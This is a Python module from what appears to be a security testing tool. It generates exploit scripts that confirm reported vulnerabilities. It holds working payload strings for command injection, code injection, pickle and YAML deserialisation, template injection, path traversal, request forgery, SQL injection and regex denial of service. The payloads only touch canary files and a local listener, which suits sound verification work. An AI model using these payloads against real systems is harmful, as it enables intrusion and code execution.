"""Exploits that Red writes itself: a payload driven into the input that a finding names, and the effect of it."""

import json
import re
from typing import Final

from pytest_logomesh.records.finding import Exploit, Finding, Oracle

_INPUT: Final = re.compile(r"(?P<module>\w+)\.(?P<path>\w+(\.\w+)?)\((?P<parameter>\w+)\)")
"""How a finding names a parameter of a function or method at the top of a module."""
_PICKLE: Final = "type('Payload', (), {'__reduce__': lambda self: (open, (stage.canary, 'w'))})()"
_PAYLOADS: Final[dict[str, tuple[Oracle, tuple[str, ...]]]] = {
    "os-command": (
        "canary",
        (
            "'; : > ' + stage.canary + ' ;'",
            "'$(: > ' + stage.canary + ')'",
            "chr(39) + '; : > ' + stage.canary + ' #'",
            "'\"; : > ' + stage.canary + ' #'",
            "': > ' + stage.canary",
        ),
    ),
    "code-injection": (
        "canary",
        (
            "'open(' + repr(stage.canary) + ', \"w\").close()'",
            "'__import__(\"os\").mknod(' + repr(stage.canary) + ')'",
        ),
    ),
    "unsafe-deserialisation": (
        "canary",
        (
            f"__import__('pickle').dumps({_PICKLE})",
            "'!!python/object/apply:os.mknod [' + stage.canary + ']'",
            f"__import__('io').BytesIO(__import__('pickle').dumps({_PICKLE}))",
        ),
    ),
    "template-injection": (
        "canary",
        ("'{{ cycler.__init__.__globals__.os.mknod(' + repr(stage.canary) + ') }}'",),
    ),
    "path-traversal": (
        "secret",
        (
            "stage.secret",
            "'../' * 12 + stage.secret.lstrip('/')",
            "'../outside/secret'",
            "'x/../../outside/secret'",
        ),
    ),
    "request-forgery": ("listener", ("'http://127.0.0.1:%d/' % stage.port", "'127.0.0.1:%d' % stage.port")),
    "sql-injection": ("sql", ("\"x' OR '1'='1\"", "'1 OR 1=1'", "'name, password'")),
    "catastrophic-regex": (
        "cpu",
        ("'a' * 5000 + '!'", "'a' * 40 + '!'", "'1' * 40 + 'x'", "' ' * 50000 + 'x'"),
    ),
}
"""By check: the effect, and expressions of payloads in which `stage` stands for the scene."""


def template_for(finding: Finding) -> Exploit | None:
    """An exploit for what a finding claims; None where Red knows none, or the input is no parameter."""
    known = _PAYLOADS.get(finding.check)
    found = _INPUT.fullmatch(finding.source)
    if known is None or found is None:
        return None
    oracle, payloads = known
    calls = [*_own_payload(finding), *payloads]
    lines = [
        f"    stage.drive({found['path']!r}, {parameter!r}, {payload})"
        for parameter in (found["parameter"], "*")
        for payload in calls
    ]
    script = "\n".join(["def attack(solution, stage):", *lines, ""])
    return Exploit(name=f"template/{finding.check}", script=script, oracle=oracle)


def _own_payload(finding: Finding) -> list[str]:
    """What the check itself worked out, as an expression."""
    if finding.exploit is None or finding.exploit.name != "payload":
        return []
    return [repr(text) for text in json.loads(finding.exploit.script)]
